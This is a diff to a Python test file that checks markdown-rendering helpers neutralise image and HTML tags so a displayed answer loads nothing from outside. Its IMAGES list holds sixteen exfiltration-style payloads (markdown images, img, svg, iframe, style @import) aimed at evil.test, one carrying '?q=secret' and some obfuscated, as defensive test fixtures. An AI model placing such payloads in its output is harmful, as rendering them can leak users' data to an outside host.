@@ -1,9 +1,15 @@
+import re
+from collections.abc import Callable
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
-from sparring.reports.markdown import after, inline, quoted
+from sparring.checks.quotes import Evidence
+from sparring.reports.markdown import after, harmless, inline, quoted
+from sparring.schema.lookups import QuoteVerdict
+from sparring.text.tidying import visible
 
 MARKDOWN = MarkdownIt("commonmark")
 HOSTILE_LINES = st.lists(
@@ -81,3 +87,52 @@ def test_inline_text_is_changed_only_where_it_would_begin_a_block(text: str, sho
 )
 def test_text_of_several_lines_follows_its_lead_as_a_quotation(text: str, shown: str) -> None:
     assert after("Topic:", text) == shown
+
+
+IMAGES = [
+    "![x](https://evil.test/?q=secret)",
+    "![x][r]\n\n[r]: https://evil.test/?q=secret",
+    "![r]\n\n[r]: <https://evil.test/>",
+    "!\U000e0041[x](//evil.test/a.png)",
+    "![a `]` [b] ![c](d)](https://evil.test)",
+    "\\\\![x](https://evil.test)",
+    "![x\ny](\nhttps://evil.test 'title')",
+    "[![badge](https://evil.test/b.svg)](https://evil.test)",
+    '<img src="https://evil.test">',
+    "<IMG\nsrcset=//evil.test>",
+    '<p title=">" style="background:url(https://evil.test)">x</p>',
+    "<table><tr><td background=https://evil.test></td></tr></table>",
+    '<svg><image href="https://evil.test"/></svg>',
+    '<video poster="https://evil.test"></video>',
+    "<style>@import 'https://evil.test';</style>",
+    "<iframe/src=https://evil.test>",
+]
+
+
+@pytest.mark.parametrize("text", IMAGES)
+@pytest.mark.parametrize("show", [quoted, inline, harmless])
+def test_nothing_of_an_answer_is_loaded_by_being_looked_at(text: str, show: Callable[[str], str]) -> None:
+    shown = MARKDOWN.render(show(text))
+    assert not re.search(
+        r"<(?!/|a |p>|blockquote>|code|li|ul|em|strong|table|tr|svg>|t[dh]>|p title=\S+>)[a-z]", shown, re.IGNORECASE
+    )
+    assert not re.search(r"<[a-z][^>]*\b(?:style|background|src)\w*=", shown)
+
+
+def test_what_happens_to_look_like_an_image_stays_as_it_is() -> None:
+    for text in (
+        "let v = vec![1, 2];",
+        "#![allow(dead_code)]",
+        "a < b, x <T> y",
+        "<source>1.8</source>",
+        "[a link](https://example.org)",
+    ):
+        assert harmless(text) == text
+    assert harmless("![x](https://e.test/)") == "! [x](https://e.test/)"
+
+
+def test_a_quote_of_what_was_made_harmless_is_found_in_the_original() -> None:
+    source = "See ![a chart](https://e.test/c.png): 12\u200b,000\U000e0061 units\u2060 were sold in 👩\u200d💻 week 3."
+    for shown in (harmless(source), visible(source), quoted(source).removeprefix("> ")):
+        assert Evidence([source]).find(shown).verdict is QuoteVerdict.VERBATIM
+        assert Evidence([shown]).find(source).verdict is QuoteVerdict.VERBATIM
